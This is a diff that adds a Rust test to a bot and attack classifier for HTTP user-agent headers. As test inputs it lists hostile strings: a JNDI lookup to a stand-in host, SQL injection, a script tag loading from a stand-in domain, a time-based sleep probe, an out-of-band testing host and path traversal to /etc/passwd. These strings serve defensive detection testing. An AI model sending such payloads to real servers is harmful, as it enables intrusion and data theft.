@@ -454,3 +454,46 @@ fn crawler_conventions_found_leaving_crawler_user_agents_out() {
         .expect("flagged");
     assert_eq!(v.signature.action, Action::Block, "{}", v.signature.id);
 }
+
+/// Conventions that crawlers unrelated to each other share, found where the
+/// catalog misses isbot's fixtures with isbot's own entries left out: an
+/// attack payload or an out-of-band testing host in the header, and a
+/// product named before its client's whole user-agent. Written for this test.
+#[test]
+fn conventions_found_leaving_isbot_out() {
+    let m = shipped();
+    let refused = bots(
+        &m,
+        "attack payloads and out-of-band hosts",
+        &[
+            "Mozilla/5.0 ${jndi:dns://quokka.example/x}",
+            "numbat/2.0\" UNION ALL SELECT NULL,NULL--",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/121.0 <script src=//wombat.example></script>",
+            "Quokka/1.0 (sleep(10))",
+            "Mozilla/5.0 (compatible; 7f3c.interact.sh)",
+            "wombat ..\\..\\..\\windows ../../../etc/passwd",
+        ],
+    );
+    assert!(
+        refused.iter().all(|a| *a == Action::Block),
+        "an attack is refused: {refused:?}"
+    );
+    counted(
+        &m,
+        "a product before its client's user-agent",
+        &[
+            "Anonymous, Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
+            "quokka-imageproxy/0.9, Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
+        ],
+    );
+    people(
+        &m,
+        "browsers that name selections, scripts and callbacks in their own words",
+        &[
+            "Mozilla/5.0 (Linux; Android 13; Select 5G Build/TP1A.220624.014) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Sleepy/1.0",
+            "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54",
+        ],
+    );
+}
+
